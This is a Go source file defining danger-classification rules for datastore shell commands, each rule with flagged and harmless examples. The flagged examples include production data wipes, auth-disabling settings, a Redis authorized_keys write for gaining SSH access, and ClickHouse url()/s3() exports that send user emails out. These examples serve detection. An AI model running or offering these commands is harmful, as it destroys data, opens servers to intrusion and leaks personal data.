package danger

// The datastores' and brokers' own effects (datastore_*.go, sql_dialects.go,
// checks_datastore*.go): what is typed at redis-cli, mongosh, cqlsh,
// clickhouse-client and influx, and given to their command-line tools, judged
// by the target: a staging, QA, CI, test or scratch name, or a local
// instance on a port other than the service's own, is ordinary.

func redisIn(in ...string) []example { return examples(Redis, in) }
func mongoIn(in ...string) []example { return examples(Mongo, in) }

func init() {
	rules = append(rules,
		rule{"store-replication", catData,
			"This removes a node from its datastore cluster, makes a server replace its data with another's, or cuts a keyspace's replicas, so data held there is lost or loses its copies.",
			join(redisIn("SLAVEOF 10.0.0.5 6379", "REPLICAOF redis-old.internal 6379", "CLUSTER RESET HARD"),
				sql("ALTER KEYSPACE billing WITH replication = {'class': 'SimpleStrategy', 'replication_factor': 1};")),
			join(redisIn("REPLICAOF NO ONE", "CLUSTER INFO", "INFO replication"),
				sql("ALTER KEYSPACE billing WITH replication = {'class': 'NetworkTopologyStrategy', 'eu1': 3, 'us1': 3};"))},
		rule{"data-expiry", catData,
			"This sets a retention or time-to-live so short that the data already stored (a topic, bucket, table or collection) is deleted within the day.",
			join(mongoIn("db.audit.createIndex({ at: 1 }, { expireAfterSeconds: 3600 })"),
				sql("ALTER TABLE metrics.requests MODIFY TTL ts + INTERVAL 6 HOUR", "ALTER TABLE events MODIFY TTL day + toIntervalDay(1)")),
			join(mongoIn("db.sessions.createIndex({ at: 1 }, { expireAfterSeconds: 3600 })", "db.audit.createIndex({ at: 1 }, { expireAfterSeconds: 31536000 })"),
				sql("ALTER TABLE metrics.requests MODIFY TTL ts + INTERVAL 90 DAY", "ALTER TABLE scratch.load MODIFY TTL ts + INTERVAL 1 HOUR"))})
	addExamples([]moreExamples{
		{"redis-flush",
			join(redisIn("FLUSHDB", "flushall async", `EVAL "return redis.call('flushdb')" 0`, "XTRIM orders MAXLEN ~ 0"),
				sh("redis-cli -u redis://prod-redis:6379/0 FLUSHALL", "echo FLUSHALL | redis-cli -h users-redis")),
			join(redisIn(`EVAL "return redis.call('get', KEYS[1])" 1 k`, "XTRIM orders MAXLEN ~ 100000", "DEL session:42", "SCAN 0 MATCH cache:* COUNT 100"),
				sh("redis-cli -h cache-stg.internal flushall", "redis-cli -h 127.0.0.1 -p 7001 flushdb", "redis-cli -u redis://localhost:6380/0 FLUSHALL",
					"echo FLUSHALL | redis-cli -h qa-redis", "redis-cli -h redis-ci-4471 FLUSHDB"))},
		{"auth-disabled",
			join(redisIn(`CONFIG SET requirepass ""`, "CONFIG SET protected-mode no", "ACL SETUSER default on nopass"),
				sh("redis-cli -h prod-redis ACL SETUSER default nopass")),
			redisIn(`CONFIG SET requirepass "n3w-Long-Secret"`, "ACL SETUSER alice on >s3cret ~cache:* +get", "CONFIG GET protected-mode")},
		{"stop-service", redisIn("SHUTDOWN", "SHUTDOWN NOSAVE", "DEBUG SEGFAULT"), redisIn("DEBUG OBJECT key", "INFO server")},
		{"write-authorized-keys", redisIn("CONFIG SET dir /root/.ssh", "CONFIG SET dbfilename authorized_keys"),
			redisIn("CONFIG SET dir /var/lib/redis", "CONFIG SET dbfilename dump.rdb", "CONFIG GET dir")},
		{"mongo-drop",
			join(mongoIn(`db.runCommand({ dropDatabase: 1 })`, `db.runCommand({ drop: "payments" })`, "db.accounts.deleteMany({ _id: { $ne: null } })",
				`db.accounts.deleteMany({ $or: [ { plan: "trial" }, { _id: { $exists: true } } ] })`, "db.invoices.dropIndexes()", `db.invoices.dropIndexes("*")`,
				`db.invoices_new.renameCollection("invoices", true)`, `db.getSiblingDB("billing").dropDatabase()`, "db.dropDatabase()"),
				sh(`mongosh "mongodb://localhost:27017/app" --eval 'db.dropDatabase()'`, `mongosh "$URI" --eval 'db.orders.dropIndexes()'`)),
			join(mongoIn(`db.runCommand({ drop: "tmp_import" })`, `db.runCommand({ count: "payments" })`, `db.accounts.deleteMany({ plan: "trial" })`,
				`db.invoices.dropIndex("tmp_idx")`, "db.tmp_load.dropIndexes()", `db.invoices_new.renameCollection("invoices_v2")`,
				`db.getSiblingDB("ci_run_77").dropDatabase()`, "use app_test", "show collections", "db.users.find({}).limit(3)"),
				sh(`mongosh "mongodb://localhost:27019/app" --eval 'db.dropDatabase()'`, `mongosh "mongodb://mongo-qa.internal/app" --eval 'db.dropDatabase()'`,
					`mongosh "$URI" --eval 'db.orders.getIndexes()'`))},
		{"sql-delete-no-where", sql("ALTER TABLE events.clicks DELETE WHERE 1", "ALTER TABLE events.clicks DELETE WHERE site_id = 3 OR 1 = 1"),
			sql("ALTER TABLE events.clicks DELETE WHERE site_id = 3", "ALTER TABLE scratch.clicks DELETE WHERE 1", "DROP SERIES FROM cpu WHERE host = 'web-3'")},
		{"sql-drop", sql("ALTER TABLE events.clicks DROP PARTITION 202611", "DROP SERIES FROM cpu"),
			sql("ALTER TABLE tmp.clicks_load DROP PARTITION 202611", "ALTER TABLE events.clicks_staging DROP PARTITION 202611", "SYSTEM DROP DNS CACHE")},
		{"sql-update-no-where", sql("ALTER TABLE events.clicks UPDATE site_id = 0 WHERE 1"), sql("ALTER TABLE events.clicks UPDATE site_id = 0 WHERE site_id = 9")},
		{"sql-export", sql("INSERT INTO FUNCTION url('https://in.example.net/x', 'CSV', 'a String') SELECT email FROM users",
			"INSERT INTO FUNCTION s3('https://bucket.s3.amazonaws.com/u.csv', 'CSV') SELECT * FROM users"),
			sql("INSERT INTO events.clicks SELECT * FROM events.clicks_staging", "SELECT * FROM users LIMIT 10 INTO OUTFILE '/tmp/u.csv'")},
		{"sql-superuser", mongoIn(`db.getSiblingDB("admin").createUser({ user: "ops2", pwd: "x", roles: [ "root" ] })`, `db.grantRolesToUser("app", ["clusterAdmin"])`),
			mongoIn(`db.getSiblingDB("admin").createUser({ user: "ro", pwd: "x", roles: [ { role: "read", db: "shop" } ] })`)},
	})
}
